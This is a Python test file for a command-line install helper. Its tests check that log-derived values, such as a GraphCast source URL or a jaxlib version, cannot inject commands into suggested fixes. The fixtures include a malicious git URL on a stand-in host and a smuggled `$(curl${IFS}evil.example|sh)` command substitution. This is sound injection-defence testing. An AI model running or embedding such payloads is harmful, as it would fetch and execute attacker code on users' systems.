"""31st hostile pass (part A) P3: a log is untrusted input, yet `diagnose` of a pasted log wrote the GraphCast source
named on its first line (any URL) into its fix as `gc-wizard install RECIPE --graphcast-src git+https://evil.example/…`.
Every value a fix or next line takes from a log now goes through `verify.log_values`: a GraphCast source only as a
local path here that passes the swap rule (else `--graphcast-src DIR`, the source quoted as not used), any other
captured word only when a shell would take it as it is."""

from __future__ import annotations

import os

from wizard.verify.causes import Context
from wizard.verify.diagnose import Stopped, diagnose_text
from wizard.verify.log_values import inert, source_refusal

FAILURE = "Traceback (most recent call last):\nModuleNotFoundError: No module named 'jax'\n"
FIRST = ("[gc-wizard] Installing jax0.4.23-cpu into /home/bob/envs/x (uv, new environment); "
         "GraphCast v0.1.1 from {given}\n")
EVIL = "git+https://evil.example/graphcast.git@main"


def _fix(text: str, finding: str = "python_module_missing", **kw) -> str:
    return next(f for f in diagnose_text(text, **kw) if f.id == finding).fix


def test_a_url_the_log_names_is_never_the_fix_s_source():
    fix = _fix(FIRST.format(given=EVIL) + FAILURE)
    assert "--graphcast-src git+" not in fix and "--graphcast-src 'git+" not in fix, fix
    assert "`gc-wizard install jax0.4.23-cpu --graphcast-src DIR`" in fix, fix
    assert f'"{EVIL}", is not given again: it is not a local path' in fix, fix


def test_a_path_that_is_not_here_or_another_user_could_change_is_not_given_again(tmp_path):
    missing = tmp_path / "no-such-checkout"
    fix = _fix(FIRST.format(given=missing) + FAILURE)
    assert "--graphcast-src DIR`" in fix and "there is no such folder or file here" in fix, fix
    shared = tmp_path / "shared"
    (shared / "graphcast").mkdir(parents=True)
    os.chmod(shared, 0o777)  # every user may write here, no sticky bit: anyone could swap the checkout
    fix = _fix(FIRST.format(given=shared / "graphcast") + FAILURE)
    assert "--graphcast-src DIR`" in fix and "another user could change it" in fix, fix
    assert source_refusal(str(shared / "graphcast")) is not None


def test_the_recipe_s_own_source_needs_no_option():
    from wizard.recipes.loader import load_recipes

    own = load_recipes()["jax0.4.23-cpu"].graphcast.source
    for given in (own, own.partition("@")[2].strip()):
        fix = _fix(FIRST.format(given=given) + FAILURE)
        assert "`gc-wizard install jax0.4.23-cpu`" in fix and "--graphcast-src" not in fix, fix


def test_an_environment_s_record_is_held_to_the_same_rule():
    fix = _fix(FAILURE, context=Context(graphcast_given=("0.1.1", EVIL)))
    assert "--graphcast-src DIR`" in fix and "evil.example/graphcast.git@main\", is not given" in fix, fix


def test_the_line_to_go_again_after_a_stop_takes_nothing_unsafe_from_the_log():
    stopped = Stopped(step=None, why="cancelled", recipe="jax0.4.23-cpu", given=("0.1.1", EVIL))
    assert "--graphcast-src DIR`" in stopped.next_step and "--graphcast-src git+" not in stopped.next_step
    odd = Stopped(step=None, why="cancelled", recipe="Evil-Ünicode")  # not a recipe id's shape
    assert "gc-wizard install" not in odd.next_step and "the same command" in odd.next_step


def test_a_captured_word_that_a_shell_would_run_stays_out_of_the_fix():
    line = "RuntimeError: jaxlib version 0.4.25$(curl${IFS}evil.example|sh) is newer than and incompatible with " \
           "jax version 0.4.23.\n"
    fix = _fix(line, "jaxlib_mismatch")
    assert "curl" not in fix and "jax==" not in fix, fix
    plain = _fix(line.replace("$(curl${IFS}evil.example|sh)", ""), "jaxlib_mismatch")
    assert "--no-deps jax==0.4.25`" in plain, plain


def test_inert_takes_only_ascii_words_a_shell_leaves_alone():
    assert inert("0.4.25") and inert("https://example.org/a/b") and inert("numcodecs.blosc.Blosc")
    for value in ("$(id)", "a b", "x;y", "`id`", "١٢", "a|b", "'q'", "", "x" * 201):
        assert not inert(value), value
